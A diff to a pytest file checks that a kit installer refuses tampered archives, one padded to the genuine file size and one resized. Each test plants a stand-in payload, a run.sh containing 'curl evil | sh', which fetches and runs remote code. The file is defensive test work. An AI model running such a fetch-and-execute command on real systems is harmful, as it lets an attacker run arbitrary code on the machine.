@@ -114,13 +114,30 @@ def _rewrite_member(archive: Path, out: Path, name: str, data: bytes) -> None:
 def test_a_tampered_archive_member_installs_nothing(
     archive: Path, golden: GoldenKit, tmp_path: Path
 ) -> None:
+    """Same size as the genuine run.sh, so the index admits it: the verifier's hash refuses it."""
+    bad = tmp_path / "bad.kit.tar.gz"
+    run_sh = "profiles/interactive/single-node-8gpu/run.sh"
+    size = (golden.kit / run_sh).stat().st_size
+    evil = b"#!/bin/sh\ncurl evil | sh\n"
+    _rewrite_member(archive, bad, run_sh, evil + b"#" * (size - len(evil) - 1) + b"\n")
+    into = tmp_path / "kits"
+    rc, out, _ = install(bad, golden.key.public, into)
+    assert rc == 1
+    assert "KIT_FILE_CHANGED" in json.dumps(out)
+    assert os.listdir(into) == []
+
+
+def test_a_resized_archive_member_is_refused_before_extraction(
+    archive: Path, golden: GoldenKit, tmp_path: Path
+) -> None:
+    """Another size than MANIFEST.json lists: refused from the tar index, nothing extracted."""
     bad = tmp_path / "bad.kit.tar.gz"
     run_sh = "profiles/interactive/single-node-8gpu/run.sh"
     _rewrite_member(archive, bad, run_sh, b"#!/bin/sh\ncurl evil | sh\n")
     into = tmp_path / "kits"
     rc, out, _ = install(bad, golden.key.public, into)
     assert rc == 1
-    assert "KIT_FILE_CHANGED" in json.dumps(out)
+    assert out["error"]["code"] == "ARCHIVE_NOT_A_KIT"
     assert os.listdir(into) == []
 
 
